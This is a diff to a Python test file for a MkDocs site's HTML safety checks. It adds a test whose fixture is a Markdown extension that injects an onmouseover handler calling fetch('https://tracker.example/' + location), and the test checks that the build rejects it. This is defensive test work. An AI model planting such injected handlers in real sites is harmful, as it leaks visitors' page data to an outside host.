@@ -14,7 +14,7 @@ from build_tools import html_safety
 from build_tools.html_safety import MESSAGES, check_page_html, find_unsafe_html
 from build_tools.pages import check_page
 from build_tools.safety import find_unsafe
-from conftest import ROOT
+from conftest import ROOT, run_build
 
 SHOWN = "docs/es/hogar/aguinaldo.md"
 EVENT, STYLE, HIDDEN = MESSAGES["event"], MESSAGES["style"], MESSAGES["hidden"]
@@ -224,3 +224,40 @@ def test_every_built_page_body_passes(built_site: Path):
     assert any('class="dc-calc__form"' in body for body in bodies.values())
     found = {page: [html_safety.message(f) for f in find_unsafe_html(body)] for page, body in bodies.items()}
     assert {page: messages for page, messages in found.items() if messages} == {}
+
+
+# A Markdown extension a contributor adds to mkdocs.yml writes its own
+# attributes: no source check can see them, the check of the rendered page does
+ATTRIBUTE_ADDER = '''
+from markdown import Extension
+from markdown.treeprocessors import Treeprocessor
+
+
+class AddAttribute(Treeprocessor):
+    def run(self, root):
+        for element in root.iter("p"):
+            element.set("onmouseover", "fetch('https://tracker.example/' + location)")
+            return
+
+
+class AttributeAdder(Extension):
+    def extendMarkdown(self, md):
+        md.treeprocessors.register(AddAttribute(md), "attribute_adder", 1)
+
+
+def makeExtension(**kwargs):
+    return AttributeAdder(**kwargs)
+'''
+
+
+@pytest.mark.build
+def test_the_build_stops_on_an_attribute_only_the_rendered_page_has(project_copy: Path, tmp_path: Path):
+    (project_copy / "attribute_adder.py").write_text(ATTRIBUTE_ADDER, encoding="utf-8")
+    config = project_copy / "mkdocs.yml"
+    config.write_text(config.read_text(encoding="utf-8").replace("markdown_extensions:\n", "markdown_extensions:\n  - attribute_adder\n", 1), encoding="utf-8")
+    site = tmp_path / "site"
+    result = run_build(project_copy, site)
+    assert result.returncode != 0
+    assert f"docs/es/hogar/aguinaldo.md: {EVENT}" in result.stderr
+    assert "Traceback" not in result.stderr
+    assert not (site / "hogar" / "aguinaldo" / "index.html").exists()
